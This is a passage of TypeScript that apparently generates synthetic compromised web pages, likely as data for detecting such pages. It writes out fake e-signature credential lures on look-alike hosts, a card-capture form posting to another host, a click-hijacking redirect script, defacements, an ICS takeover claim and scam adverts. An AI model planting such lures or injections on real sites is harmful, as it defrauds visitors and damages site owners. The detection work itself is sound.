  nl: ["Contractwijziging", "Salarisaanpassing 2026", "Nieuwe betalingsvoorwaarden"], pt: ["Aditivo contratual", "Reajuste salarial 2026", "Novas condições de pagamento"],
  it: ["Modifica del contratto", "Adeguamento retributivo 2026", "Nuove condizioni di pagamento"]
}

// E-signature lures, recalled from memory of phishing reports by Abnormal Security, Proofpoint and Microsoft (about 2020–2024) on fake DocuSign, Adobe Acrobat Sign and Dropbox Sign envelopes ("review document" buttons, envelope IDs, "powered by" footers) leading to credential pages, often about salary changes, invoices or contracts: such an envelope notice placed on the site in its name, its button on a look-alike e-signature host or a free hosting subdomain.
const eSignatureLure = fresh17("e-signature envelope notice ('review and sign': DocuSign, Acrobat Sign, Dropbox Sign look-alike) in the site's name, leading to a look-alike host", (page, rng) => {
  const [brand, accent, fg] = pick(rng, [["DocuSign", "#ffc820", "#000"], ["Adobe Acrobat Sign", "#eb1000", "#fff"], ["Dropbox Sign", "#0061fe", "#fff"], ["eSign", "#1a73e8", "#fff"]] as const)
  const doc = pick(rng, some(rng, page, docTitles))
  const [h, p, cta] = some(rng, page, signWords)(brandName(page), doc)
  const b = slug(brand) || "esign"
  const other = pick(rng, [`${b}-${pick(rng, ["review", "secure", "envelope", "portal", "docs"])}.${tld(rng)}`, `${pick(rng, ["sign", "docs", "envelope"])}-${alnum(rng, 5)}.${pick(rng, ["pages.dev", "web.app", "netlify.app", "workers.dev"])}`, brandLookalike(rng, page.site.brand)])
  const env = uuid(rng).toUpperCase()
  const inner = `<div style="background:${accent};color:${fg};padding:10px 14px;font-weight:bold">${esc(brand)}</div><div style="padding:14px"><p style="font-size:17px;margin:0 0 8px">📄 ${esc(h)}</p><p>${esc(p)}</p><p><a href="https://${other}/${pick(rng, ["envelope", "sign", "d"])}/${env}?e=${encodeURIComponent(page.site.domain)}" style="${button(rng, accent)};color:${fg};font-weight:bold">${esc(cta)}</a></p><p style="font-size:11px;color:#777">Envelope ID: ${env} · Powered by ${esc(brand)}</p></div>`
  return splices(insert(noticeSpot(rng, page), `<div class="${pick(rng, ["document-notice", "envelope", "sign-request"])}" style="border:1px solid #ccc;max-width:620px;margin:14px auto;background:#fff;font-family:Helvetica,Arial,sans-serif">${inner}</div>`))
})

const storageWords: Table<(date: string, price: string) => readonly [string, string, string]> = {
  en: (d, p) => ["Your cloud storage is full", `Your photos and videos will be deleted on ${d}. As a loyal customer you get 50 GB of extra storage free for 90 days — just confirm your payment method (${p}).`, "Upgrade storage"],
  fr: (d, p) => ["Votre stockage cloud est plein", `Vos photos et vidéos seront supprimées le ${d}. En tant que client fidèle, recevez 50 Go gratuits pendant 90 jours — confirmez simplement votre moyen de paiement (${p}).`, "Augmenter le stockage"],
  de: (d, p) => ["Ihr Cloud-Speicher ist voll", `Ihre Fotos und Videos werden am ${d} gelöscht. Als treuer Kunde erhalten Sie 90 Tage lang 50 GB gratis – bestätigen Sie nur Ihre Zahlungsart (${p}).`, "Speicher erweitern"],
  es: (d, p) => ["Tu almacenamiento en la nube está lleno", `Tus fotos y vídeos se eliminarán el ${d}. Como cliente fiel recibes 50 GB gratis durante 90 días: solo confirma tu método de pago (${p}).`, "Ampliar almacenamiento"],
  nl: (d, p) => ["Je cloudopslag is vol", `Je foto's en video's worden op ${d} verwijderd. Als trouwe klant krijg je 90 dagen 50 GB gratis — bevestig alleen je betaalmethode (${p}).`, "Opslag uitbreiden"],
  pt: (d, p) => ["Seu armazenamento na nuvem está cheio", `Suas fotos e vídeos serão apagados em ${d}. Como cliente fiel, ganhe 50 GB grátis por 90 dias — basta confirmar sua forma de pagamento (${p}).`, "Aumentar armazenamento"],
  it: (d, p) => ["Il tuo spazio cloud è pieno", `Le tue foto e i tuoi video saranno eliminati il ${d}. Come cliente fedele ricevi 50 GB gratis per 90 giorni: conferma solo il metodo di pagamento (${p}).`, "Aumenta spazio"]
}

// Storage-full lures, recalled from memory of reports by BleepingComputer, Bitdefender and Trend Micro (about 2024) on "your cloud storage is full, your photos will be deleted" e-mails and pages in the names of iCloud, Google One or generic "Cloud" brands, offering extra storage for a token payment that starts a subscription or takes the card: such a notice with a full usage bar on the site, its button on another host (or a small card form posting there).
const cloudStorageFull = fresh17("'your cloud storage is full, your photos will be deleted' notice with a full usage bar and a token payment on another host", (page, rng) => {
  const price = page.site.locale.money(pick(rng, [1.95, 1.99, 2.0, 0.99]))
  const [h, p, cta] = some(rng, page, storageWords)(page.site.locale.date(someDate(rng)), price)
  const svc = pick(rng, ["iCloud+", "Google One", "Cloud", "OneDrive", "Photos"])
  const other = host(rng, page, ["cloud", "storage", "icloud", "photos", "backup", "drive"])
  const action = `https://${other}/${pick(rng, ["upgrade", "billing", "renew", "offer/" + alnum(rng, 5)])}`
  const bar = `<div style="background:#eee;border-radius:6px;height:12px;margin:8px 0"><div style="background:#d93025;width:100%;height:12px;border-radius:6px"></div></div><small>${between(rng, 5, 200)}.${between(rng, 0, 9)} GB / ${pick(rng, ["5", "15", "50", "200"])} GB</small>`
  const body = chance(rng, 0.6)
    ? `<p><a href="${action}" style="${button(rng, "#1a73e8")}">${esc(cta)}</a></p>`
    : `<form action="${action}" method="post"><input name="cc" inputmode="numeric" placeholder="•••• •••• •••• ••••" style="padding:6px;margin:3px;width:200px"><input name="exp" placeholder="MM/YY" style="padding:6px;margin:3px;width:70px"><input name="cvc" placeholder="CVC" style="padding:6px;margin:3px;width:60px"><button type="submit" style="${button(rng, "#1a73e8")}">${esc(cta)}</button></form>`
  return splices(insert(noticeSpot(rng, page), box(rng, ["storage-alert", "cloud-notice", "account-alert"], "#d93025", `<b>☁️ ${esc(svc)} — ${esc(h)}</b>${bar}<p>${esc(p)}</p>${body}`)))
})

// Link labels as a canvas, recalled from memory, with uncertain sources, of Zone-H and Mirror-H mirrors where an intruder with access to the menu or the template's strings (rather than the page body) renamed every navigation and footer link to the crew's tag, and of CMS menu-editor defacements reported on help forums: the visible text of many of the site's links replaced by the crew's tag or a "hacked by" line, their addresses untouched.
const linkTextsReplaced = fresh17("visible text of many of the site's links replaced by the crew's tag or 'hacked by' line, link addresses kept", (page, rng) => {
  const w = who(rng)
  const tags = [signature(rng, w).text, w, `${w} ☠`, "HACKED", `#${(slug(w) || "hacked").replace(/-/g, "")}`, pick(rng, ["Owned", "Pwned", "Hacked", "Dikuasai", "Hacklendi"])]
  const one = pick(rng, tags)
  const runs = page.spots.texts.filter((t) => {
    const el = page.spots.elements[t.parent]
    return el !== undefined && el.name === "a" && el.shown && t.text.trim().length >= 2
  })
  if (runs.length === 0) {
    return splices(insert(top(page), `<nav class="menu"><a href="/">${esc(one)}</a> · <a href="/">${esc(one)}</a> · <a href="/">${esc(one)}</a></nav>`))
  }
  const chosen = chance(rng, 0.5) ? runs : sample(rng, runs, Math.min(runs.length, between(rng, 5, 40)))
  const mixed = chance(rng, 0.35)
  return { splices: chosen.map((t) => replace(trimmed(page, t), esc(mixed ? pick(rng, tags) : one))) }
})

// Rickrolls, recalled from memory of the "Never Gonna Give You Up" bait-and-switch meme (from about 2007; YouTube's own April Fools' rickroll of 2008), of a student's 2021 write-up of rickrolling every screen of his Illinois school district (Minh Duong, reported by Vice and Ars Technica, about August 2021) and of defacement mirrors with an embedded Rick Astley video and a crew signature: the video from YouTube autoplaying over the page, a first click sent to it, or an embed at the top, with a caption.
const rickroll = fresh17("Rick Astley rickroll: 'Never Gonna Give You Up' autoplaying over the page or opened on the first click, with the crew's caption", (page, rng) => {
  const w = who(rng)
  const id = pick(rng, ["dQw4w9WgXcQ", "dQw4w9WgXcQ", "oHg5SJYRHA0"])
  const caption = pick(rng, [`You just got rickrolled by ${w}`, `Never gonna give you up, never gonna let you down — ${w}`, `${signature(rng, w).text} 🎵`, `Rickrolled! Greetings from ${w}`])
  const embed = `https://www.youtube.com/embed/${id}?autoplay=1&amp;controls=0&amp;loop=1&amp;playlist=${id}${chance(rng, 0.5) ? "&amp;mute=1" : ""}`
  switch (pick(rng, ["overlay", "overlay", "click", "inline"] as const)) {
    case "overlay":
      return splices(insert(pick(rng, [top(page), bottom(page)]), `<div class="${pick(rng, ["rr", "never-gonna", "overlay"])}" style="position:fixed;inset:0;background:#000;z-index:2147483647;display:flex;flex-direction:column;align-items:center;justify-content:center"><iframe src="${embed}" width="${pick(rng, ["80%", "640", "100%"])}" height="${pick(rng, ["70%", "360", "80%"])}" frameborder="0" allow="autoplay; encrypted-media" allowfullscreen></iframe><p style="color:#fff;font:bold 22px Arial,sans-serif">${esc(caption)}</p></div>`))
    case "click": {
      const url = pick(rng, [`https://www.youtube.com/watch?v=${id}`, `https://youtu.be/${id}`])
      const out: Array<Splice> = [insert(scriptSpot(rng, page), wrapScript(rng, `document.addEventListener("click",function f(e){document.removeEventListener("click",f,true);e.preventDefault();window.location.href=${js(url)}},true);`))]
      if (chance(rng, 0.6)) out.push(insert(pick(rng, [bottom(page), top(page)]), `<p class="${pick(rng, ["rr", "note"])}" style="text-align:center;font-size:12px">🎵 ${esc(caption)}</p>`))
      return { splices: out }
    }
    default:
      return splices(insert(noticeSpot(rng, page), `<div class="${pick(rng, ["rr", "video"])}" style="text-align:center;margin:12px 0"><iframe width="${between(rng, 320, 640)}" height="${between(rng, 180, 360)}" src="${embed}" frameborder="0" allow="autoplay; encrypted-media"></iframe><h2>${esc(caption)}</h2></div>`))
  }
})

// Mock adverts, recalled from memory of Ghost Security Group's and Anonymous-affiliated hackers' defacement of an Islamic State dark-web site (about November 2015) with a Prozac advert and "Too many people are into this ISIS-stuff. Please calm down." (reported by the BBC and others), and of later prank defacements that mock an organisation with a fake pharmacy or "chill pill" advert: a sarcastic advert telling the organisation to calm down, with a product, a price, a shop link and the crew's tag.
const mockAd = fresh17("sarcastic 'too many people are into this, please calm down' pill advert aimed at the organisation, signed by the crew", (page, rng) => {
  const w = who(rng)
  const b = brandName(page)
  const pill = pick(rng, ["Prozac", "Xanax", "Viagra", "Chill Pills™", "Valium", "Melatonin"])
  const shop = `https://${host(rng, page, ["pharma", "pills", "meds", "rx", "chill"])}/`
  const inner = `<p style="font-size:20px;font-weight:bold;margin:0">${esc(pick(rng, [`Too many people are into this ${b} stuff. Please calm down.`, `Enhance your calm, ${b}.`, `${b} admins: take a deep breath.`, `Dear ${b}, relax. We fixed your stress.`]))}</p><div style="display:flex;gap:14px;align-items:center;margin:10px 0"><div style="font-size:54px">💊</div><div><b>${esc(pill)}</b> — ${esc(pick(rng, ["now only", "special price", "2 for 1"]))} $${between(rng, 9, 49)}.99<br><a href="${shop}">${esc(pick(rng, ["Buy now", "Order today", "Get yours"]))}</a></div></div><p style="font-size:12px">${esc(pick(rng, ["Ad paid for by", "Public service announcement by", "Brought to you by"]))} ${esc(w)} #Op${(slug(b) || "calm").replace(/-/g, "")}</p>`
  return splices(insert(pick(rng, [top(page), noticeSpot(rng, page)]), box(rng, ["mock-ad", "sponsored", "psa"], pick(rng, ["#2e7d32", "#6a1b9a", "#00838f", "#f9a825"]), inner)))
})

interface Rivalry { readonly lang: string; readonly us: string; readonly them: string; readonly fans: string; readonly colors: readonly [string, string]; readonly line: (us: string, them: string, fans: string, score: string) => string }
const rivalries: ReadonlyArray<Rivalry> = [
  { lang: "tr", us: "Galatasaray", them: "Fenerbahçe", fans: "ultrAslan", colors: ["#a90432", "#fdb912"], line: (u, t, f, s) => `${f} buradaydı! ${t}, siteniz de kupa müzeniz gibi boş. Derbi: ${u} ${s} ${t}. Cimbom!` },
  { lang: "tr", us: "Fenerbahçe", them: "Galatasaray", fans: "Genç Fenerbahçeliler", colors: ["#002d72", "#ffed00"], line: (u, t, f, s) => `${f} buradaydı! Derbi: ${u} ${s} ${t}. İstanbul sarı lacivert!` },
  { lang: "es", us: "Boca Juniors", them: "River Plate", fans: "La 12", colors: ["#0d2c6c", "#f2c300"], line: (u, t, f, s) => `¡Acá estuvo ${f}! ${t}, se les cayó la página como en 2011. Superclásico: ${u} ${s} ${t}. ¡Dale Bo!` },
  { lang: "es", us: "River Plate", them: "Boca Juniors", fans: "Los Borrachos del Tablón", colors: ["#ffffff", "#e30613"], line: (u, t, f, s) => `¡${f} pasó por acá! ${u} ${s} ${t}. Madrid 2018 no se olvida.` },
  { lang: "it", us: "Roma", them: "Lazio", fans: "Curva Sud", colors: ["#8e1f2f", "#f0bc42"], line: (u, t, f, s) => `Qui comanda la ${f}! Derby della Capitale: ${u} ${s} ${t}. Forza ${u}!` },
  { lang: "it", us: "Lazio", them: "Roma", fans: "Curva Nord", colors: ["#87d8f7", "#0b3d91"], line: (u, t, f, s) => `La ${f} è passata di qui! Derby: ${u} ${s} ${t}. Roma è biancoceleste!` },
  { lang: "pt", us: "Flamengo", them: "Vasco", fans: "Raça Rubro-Negra", colors: ["#c4161c", "#000000"], line: (u, t, f, s) => `Aqui é ${u}! A ${f} passou por aqui. Clássico: ${u} ${s} ${t}. ${t} vice de novo!` },
  { lang: "pt", us: "Corinthians", them: "Palmeiras", fans: "Gaviões da Fiel", colors: ["#000000", "#ffffff"], line: (u, t, f, s) => `Os ${f} estiveram aqui! Dérbi: ${u} ${s} ${t}. ${t} não tem Mundial!` },
  { lang: "en", us: "Celtic", them: "Rangers", fans: "the Green Brigade", colors: ["#018749", "#ffffff"], line: (u, t, f, s) => `${u} fans were here — greetings from ${f}. Old Firm: ${u} ${s} ${t}. Glasgow is green.` },
  { lang: "en", us: "Rangers", them: "Celtic", fans: "the Union Bears", colors: ["#1b458f", "#ffffff"], line: (u, t, f, s) => `${u} fans were here — ${f} say hello. Old Firm: ${u} ${s} ${t}. Glasgow is blue.` },
  { lang: "sr", us: "Crvena zvezda", them: "Partizan", fans: "Delije", colors: ["#c8102e", "#ffffff"], line: (u, t, f, s) => `${f} su bile ovde! Večiti derbi: ${u} ${s} ${t}. Samo Zvezda!` },
  { lang: "el", us: "Olympiacos", them: "Panathinaikos", fans: "Gate 7", colors: ["#d50000", "#ffffff"], line: (u, t, f, s) => `Η ${f} ήταν εδώ! Ντέρμπι: ${u} ${s} ${t}. Θρύλε!` },
  { lang: "ar", us: "الأهلي", them: "الزمالك", fans: "ألتراس أهلاوي", colors: ["#c8102e", "#ffffff"], line: (u, t, f, s) => `${f} كانوا هنا! القمة: ${u} ${s} ${t}` },
  { lang: "pl", us: "Wisła Kraków", them: "Cracovia", fans: "Sharks", colors: ["#e30613", "#1f3a93"], line: (u, t, f, s) => `Kibice ${u} tu byli! Święta wojna: ${u} ${s} ${t}. Pozdrowienia od ${f}.` }
]

// Football rivals' defacements, recalled from memory, with uncertain sources, of reports and fan-forum threads (about 2010–2023) on club and supporters' sites hacked by rival fans (Turkish, Argentine, Brazilian, Balkan and Greek derbies), with chants, the last derby's score, the ultras group's name and the club colours, and of Zone-H mirrors of such pages: a banner in the rival club's colours claiming the site for its fans, in their language.
const footballRivals = fresh17("football rivals' fans claim the site: banner in the rival club's colours with the ultras' name, the derby score and a chant", (page, rng) => {
  const r = pick(rng, rivalries)
  const score = `${between(rng, 1, 5)}-${between(rng, 0, 1)}`
  const [c1, c2] = r.colors
  const stripes = `background:repeating-linear-gradient(${pick(rng, ["90deg", "45deg", "0deg"])},${c1} 0 ${between(rng, 18, 40)}px,${c2} 0 ${between(rng, 50, 80)}px)`
  const fixed = chance(rng, 0.35)
  const inner = `<div style="${stripes};height:${between(rng, 10, 24)}px"></div><div style="background:${c1};color:${c2 === "#ffffff" || c1 === "#000000" ? "#fff" : c2};padding:${between(rng, 14, 30)}px;text-align:center;font:bold ${between(rng, 18, 30)}px Impact,Arial Black,sans-serif"><p lang="${r.lang}" style="margin:0">${esc(r.line(r.us, r.them, r.fans, score))}</p>${chance(rng, 0.5) ? `<p style="font-size:14px;margin:6px 0 0">${esc(nick(rng))}</p>` : ""}</div>`
  const wrap = `<div class="${pick(rng, ["derby", "fans", "hacked"])}" style="${fixed ? "position:fixed;top:0;left:0;right:0;z-index:999999" : "margin:0"}">${inner}</div>`
  return splices(insert(fixed ? pick(rng, [top(page), bottom(page)]) : noticeSpot(rng, page), wrap))
})

// Graffiti tags, recalled from memory, with uncertain sources, of defacement mirrors (Zone-H, Zone-XSEC, about 2010–2024) where the intruder left the site in place and only "tagged" it with a large spray-paint style signature over the header, like a wall, sometimes loading a marker font from Google Fonts: a rotated, semi-transparent tag in a marker font positioned over the top of the page, occasionally a second smaller one lower down.
const graffitiTag = fresh17("spray-painted graffiti tag of the crew over the site's header (rotated marker-font text, page left intact)", (page, rng) => {
  const w = who(rng)
  const text = pick(rng, [w, `${w} ${pick(rng, ["2025", "2026", "was here", "✗", "⚡"])}`, w.split(/\s+/).map((s) => s.charAt(0)).join("").toUpperCase() + pick(rng, [" CREW", "!", " ONE", ""])])
  const font = pick(rng, ["Permanent Marker", "Rock Salt", "Rubik Spray Paint", "Sedgwick Ave Display"])
  const color = pick(rng, ["#ff1493", "#39ff14", "#ff3d00", "#00e5ff", "#ffea00", "#d500f9", "#111"])
  const tag = (size: number, y: string, left: number) => `<div aria-hidden="true" style="position:absolute;top:${y};left:${left}%;transform:rotate(${between(rng, -18, 14)}deg);font:${size}px '${font}',Impact,cursive;color:${color};text-shadow:0 0 ${between(rng, 2, 10)}px ${color},2px 2px 0 #000;opacity:${pick(rng, [".75", ".85", ".9", "1"])};white-space:nowrap;pointer-events:none;z-index:99999;mix-blend-mode:${pick(rng, ["normal", "multiply", "screen"])}">${esc(text)}</div>`
  const fontLink = chance(rng, 0.6) ? `<link href="https://fonts.googleapis.com/css2?family=${font.replace(/ /g, "+")}&amp;display=swap" rel="stylesheet">` : ""
  const out: Array<Splice> = [insert(top(page), fontLink + tag(between(rng, 60, 150), `${between(rng, 10, 140)}px`, between(rng, 5, 45)))]
  if (chance(rng, 0.35)) out.push(insert(slotAt(page.spots, "middle"), `<div style="position:relative;height:0">${tag(between(rng, 30, 60), "0", between(rng, 20, 70))}</div>`))
  return { splices: out }
})

const lossRows: Record<"ru" | "en", ReadonlyArray<string>> = {
  ru: ["Личный состав", "Танки", "Боевые бронированные машины", "Артиллерийские системы", "Самолёты", "Вертолёты", "Корабли / катера"],
  en: ["Personnel", "Tanks", "Armoured combat vehicles", "Artillery systems", "Aircraft", "Helicopters", "Ships / boats"]
}

// Losses tallies, recalled from memory of the defacements of Russian news sites on about 28 February 2022 (TASS, Kommersant, Izvestia, Fontanka and others, attributed to Anonymous), which replaced front pages with an appeal to Russian citizens to stop the war, and of hacktivist pages of that period listing the invading army's losses by category: an appeal to the citizens of the aggressor state with a losses table, a date, a link to a channel and a signature, in Russian or English.
const warLossesTally = fresh17("appeal to an aggressor state's citizens with a table of their army's losses (personnel, tanks, aircraft), signed by hacktivists", (page, rng) => {
  const l = chance(rng, 0.65) ? "ru" : "en"
  const base = between(rng, 4, 900) * 1000
  const nums = [base, Math.round(base / between(rng, 40, 90)), Math.round(base / between(rng, 20, 40)), Math.round(base / between(rng, 50, 120)), between(rng, 30, 400), between(rng, 30, 350), between(rng, 5, 30)]
  const table = rows(lossRows[l].map((k, i) => [esc(k), `<b>${nums[i]!.toLocaleString("ru-RU")}</b>`]))
  const date = page.site.locale.date(someDate(rng))
  const chan = `https://t.me/${pick(rng, ["truth", "pravda", "stopwar", "nowar", "losses"])}${pick(rng, ["_", ""])}${alnum(rng, 4)}`
  const text = l === "ru"
    ? [`Граждане России!`, `Вам лгут. Вот потери армии на ${date}. Ваши сыновья гибнут за чужие дворцы. Остановите это безумие, не отправляйте родных на смерть.`, `Мы — ${pick(rng, ["Anonymous", team(rng)])}.`]
    : [`To the people of Russia`, `You are being lied to. These are your army's losses as of ${date}. Your sons are dying for someone else's palaces. Stop this madness.`, `We are ${pick(rng, ["Anonymous", team(rng)])}.`]
  const inner = `<h2 lang="${l}" style="margin:0 0 8px">${esc(text[0]!)}</h2><p lang="${l}">${esc(text[1]!)}</p><table style="margin:8px auto;border-collapse:collapse">${table}</table><p lang="${l}">${esc(text[2]!)} <a href="${chan}">${chan.replace("https://", "")}</a></p>`
  const overlay = chance(rng, 0.4)
  const html = overlay
    ? `<div style="position:fixed;inset:0;background:#000;color:#fff;z-index:2147483000;overflow:auto;padding:6vh 6vw;text-align:center;font-family:Arial,sans-serif">${inner}</div>`
    : box(rng, ["appeal", "message", "notice"], pick(rng, ["#000", "#b71c1c", "#0057b7"]), inner)
  return splices(insert(overlay ? pick(rng, [top(page), bottom(page)]) : pick(rng, [top(page), noticeSpot(rng, page)]), html))
})

// Control-panel takeover claims, recalled from memory of CISA's advisory (about December 2023) on "CyberAv3ngers" defacing Unitronics Vision PLC screens at US water utilities (Aliquippa, Pennsylvania) with "You have been hacked, down with Israel. Every equipment 'made in Israel' is CyberAv3ngers legal target", and of hacktivist channels' posts of HMI screenshots from water, dairy and brewery plants (about 2022–2024): a claim that every piece of equipment made in a country is the crew's target, with a picture of a defaced operator panel and a table of "owned" controllers by model, address and sector.
const plcTakeoverClaim = fresh17("'every equipment made in X is our legal target' claim with a defaced operator-panel picture and a table of 'owned' industrial controllers", (page, rng) => {
  const crew = team(rng)
  const country = pick(rng, ["Israel", "the USA", "Russia", "China", "India", "Iran", "Ukraine"])
  const models = ["Unitronics Vision V570", "Unitronics V130", "Siemens S7-1200", "Schneider Modicon M221", "Rockwell MicroLogix 1400", "Mitsubishi FX5U", "Delta DVP-SS2", "Beckhoff CX9020"]
  const sectors = ["Water treatment", "Dairy", "Brewery", "HVAC", "Irrigation", "Fuel station", "Poultry farm", "Pumping station"]
  const table = rows(Array.from({ length: between(rng, 3, 7) }, () => [esc(pick(rng, models)), `${between(rng, 12, 223)}.${between(rng, 0, 255)}.${between(rng, 0, 255)}.${between(rng, 1, 254)}`, esc(pick(rng, sectors)), `<b style="color:#c00">${pick(rng, ["OWNED", "DOWN", "LOCKED"])}</b>`]))
  const pic = `<img src="https://${pick(rng, ["i.imgur.com", "i.ibb.co", "files.catbox.moe", randomDomain(rng)])}/${alnum(rng, 7)}.${pick(rng, ["png", "jpg"])}" alt="HMI" width="${between(rng, 280, 480)}" style="border:3px solid #c00">`
  const inner = `<h2 style="margin:0 0 6px">⚠️ ${esc(pick(rng, ["You have been hacked", "Your control systems are ours", "Industrial systems compromised"]))}</h2><p><b>${esc(`Every equipment "made in ${country}" is ${crew}'s legal target.`)}</b></p>${pic}<table style="margin-top:8px;width:100%"><tr><th>PLC</th><th>IP</th><th>Sector</th><th>Status</th></tr>${table}</table><p>${esc(pick(rng, ["Next time it will not be a screen.", "We can change the setpoints whenever we want.", "Change your default passwords, if you can."]))} — ${esc(crew)}</p>`
  return splices(insert(pick(rng, [top(page), noticeSpot(rng, page)]), box(rng, ["ics-claim", "statement", "warning"], pick(rng, ["#000", "#212121", "#7f0000"]), inner)))
})

// Exam-fraud adverts, recalled from memory, with uncertain details, of Pearson VUE's, CompTIA's and (ISC)²'s exam-security statements (about 2018–2024) on "brain dump" sellers and proxy testers, of a US indictment of a ring taking IT certification exams for others (about 2019–2022), and of such adverts planted on hacked university and training-centre sites: a price list of certifications ("real exam dumps, 100% valid" or "we sit the exam for you, pay after you pass") with a contact.
const certExamFraud = fresh17("IT certification exam fraud advert: 'real exam dumps, 100% valid' and 'proxy exam, pay after you pass' price list (CISSP, PMP, CCNA, AWS)", (page, rng) => {
  const exams = ["CISSP", "PMP", "CCNA 200-301", "AWS Solutions Architect SAA-C03", "CompTIA Security+ SY0-701", "Azure AZ-104", "CISA", "CEH v12", "ITIL 4 Foundation", "Google Cloud ACE", "CKA (Kubernetes)"]
  const items = rows(sample(rng, exams, between(rng, 3, 7)).map((e) => [esc(e), `${pick(rng, ["Dumps", "Dumps + VCE", "Proxy exam"])}`, `<b>$${pick(rng, [between(rng, 29, 99), between(rng, 250, 1400)])}</b>`]))
  const inner = `<h3>🎓 ${esc(pick(rng, ["Pass your certification without studying", "100% valid real exam dumps", "Get certified in 7 days – pay after you pass", "Proxy exams: Pearson VUE & online proctored"]))}</h3><table>${items}</table><p>${esc(pick(rng, ["Online proctored or test centre. Pass guaranteed or full refund.", "We take the exam remotely for you. Certificate verifiable on the vendor's site.", "Latest questions updated weekly."]))} ${contact(rng, ["certpass", "examdumps", "proxyexam", "passguide", "certify"])}</p>`
  return splices(insert(spamSpot(rng, page), box(rng, ["cert", "post", "promo"], pick(rng, ["#0d47a1", "#1b5e20", "#4a148c"]), inner)))
})

// Review selling, recalled from memory of the US Federal Trade Commission's final rule banning fake reviews and their sale (about August 2024), of the UK's Digital Markets, Competition and Consumers Act (2024) doing the same, of Google's lawsuits against sellers of fake Maps listings and reviews (about 2023) and of such sellers' SEO adverts: a price list of reviews per platform ("non-drop", "from Local Guides", "drip-feed") with a contact.
const reviewSelling = fresh17("'buy Google, Trustpilot and Amazon reviews, 5 stars, non-drop' price list with a contact (fake-review selling)", (page, rng) => {
  const list = rows(sample(rng, [
    ["Google Maps reviews (Local Guide accounts)", `$${between(rng, 4, 15)} each`], ["Trustpilot reviews, verified badge", `$${between(rng, 6, 20)} each`], ["Amazon verified-purchase reviews", `$${between(rng, 15, 40)} each`],
    ["Tripadvisor reviews", `$${between(rng, 8, 22)} each`], ["App Store / Google Play ratings", `$${between(rng, 2, 6)} each`], ["Yelp elite reviews", `$${between(rng, 20, 45)} each`], ["Remove negative reviews", `$${between(rng, 150, 600)} per review`]
  ] as const, between(rng, 3, 6)).map(([a, p]) => [esc(a), `<b>${esc(p)}</b>`]))
  const inner = `<h3>⭐⭐⭐⭐⭐ ${esc(pick(rng, ["Buy 5-star reviews – non-drop guarantee", "Boost your rating today", "Real-looking reviews from aged accounts"]))}</h3><table>${list}</table><p>${esc(pick(rng, ["Drip-feed delivery, unique texts, any country.", "Lifetime replacement if a review drops.", "Written by natives in 30 languages."]))} ${contact(rng, ["reviews", "5star", "rating", "reviewpro", "gmb"])}</p>`
  return splices(insert(spamSpot(rng, page), box(rng, ["reviews", "post", "service"], pick(rng, ["#f9a825", "#2e7d32", "#37474f"]), inner)))
})

const fuelWords: Table<readonly [string, ReadonlyArray<readonly [string, string]>, string, string]> = {
  de: ["Heizöl & Pellets zum Tiefstpreis – nur diese Woche", [["Heizöl EL schwefelarm, 3.000 L", "L"], ["Heizöl Premium, 5.000 L", "L"], ["Holzpellets ENplus A1, 6 t lose", "t"], ["Brennholz Buche, 10 Raummeter", "RM"]], "Bei Vorkasse 5 % Rabatt – Lieferung in 3 Werktagen.", "Jetzt bestellen"],
  fr: ["Fioul et granulés au prix le plus bas", [["Fioul domestique, 3 000 L", "L"], ["Granulés de bois DIN+, 6 t en vrac", "t"], ["Bois de chauffage chêne, 10 stères", "stère"]], "Paiement par virement anticipé : -5 %, livraison sous 3 jours.", "Commander"],
  nl: ["Houtpellets en stookolie tegen bodemprijzen", [["Houtpellets ENplus A1, 66 zakken", "zak"], ["Stookolie, 3.000 L", "L"], ["Openhaardhout beuk, 10 m³", "m³"]], "Bij vooruitbetaling 5% korting, levering binnen 3 werkdagen.", "Bestel nu"],
  it: ["Pellet e gasolio da riscaldamento a prezzi minimi", [["Pellet ENplus A1, 70 sacchi", "sacco"], ["Gasolio riscaldamento, 3.000 L", "L"], ["Legna da ardere faggio, 10 quintali", "q"]], "Pagamento anticipato con bonifico: sconto 5%, consegna in 3 giorni.", "Ordina ora"],
  es: ["Pellets y gasóleo de calefacción al mejor precio", [["Pellet ENplus A1, 70 sacos", "saco"], ["Gasóleo C, 3.000 L", "L"], ["Leña de encina, 2.000 kg", "kg"]], "Pago por transferencia anticipada: 5 % de descuento, entrega en 3 días.", "Pedir ahora"],
  pt: ["Pellets e lenha ao melhor preço", [["Pellets ENplus A1, 70 sacos", "saco"], ["Lenha de sobro, 1.000 kg", "kg"], ["Gasóleo de aquecimento, 2.000 L", "L"]], "Pagamento antecipado por transferência: 5 % de desconto.", "Encomendar"],
  en: ["Heating oil & wood pellets at the lowest price", [["Heating oil (kerosene), 1,000 L", "L"], ["Wood pellets ENplus A1, 65 bags", "bag"], ["Kiln-dried logs, 2 m³", "m³"]], "Pay in advance by bank transfer and save 5%. Delivery in 3 working days.", "Order now"]
}

// Fake fuel shops, recalled from memory of the German consumer centres' (Verbraucherzentrale) and state criminal police offices' warnings in autumn 2022 on fake shops for heating oil, wood pellets and firewood that appeared when prices soared, offering low prices only for prepayment by bank transfer to accounts abroad or of individuals, and of similar Austrian, French and Dutch warnings: a price list of heating fuel with a prepayment discount, a foreign account in a person's name and a shop link.
const heatingFuelShop = fresh17("heating oil, wood pellets and firewood at rock-bottom prices for prepayment by transfer to a foreign private account (fake fuel shop)", (page, rng) => {
  const [h, items, pay, cta] = some(rng, page, fuelWords)
  const money = page.site.locale.money
  const list = rows(sample(rng, items, between(rng, 2, items.length)).map(([name, unit]) => [esc(name), `<b>${esc(money(unit === "L" ? pick(rng, [0.69, 0.74, 0.79, 0.84]) : between(rng, 4, 260)))}</b> / ${esc(unit)}`]))
  const acct = pick(rng, [() => iban("LT", "3250" + digits(rng, 12)), () => iban("ES", digits(rng, 20)), () => iban("FR", digits(rng, 10) + upper(rng, 1) + digits(rng, 12)), () => iban("DE", digits(rng, 18)), () => iban("CY", digits(rng, 8) + alnum(rng, 16).toUpperCase())])()
  const shop = `https://${host(rng, page, ["heizoel", "pellets", "brennholz", "fioul", "pellet", "fuel", "oil"])}/`
  const inner = `<h3>🔥 ${esc(h)}</h3><table>${list}</table><p>${esc(pay)}<br>IBAN ${groupIban(acct)} · ${esc(personName(rng))}</p><p><a href="${shop}" style="${button(rng, "#e65100")}">${esc(cta)}</a></p>`
  return splices(insert(spamSpot(rng, page), box(rng, ["shop", "offer", "post"], "#e65100", inner)))
})

const slotWords: Record<Lang, ReadonlyArray<readonly [string, string, string]>> = {
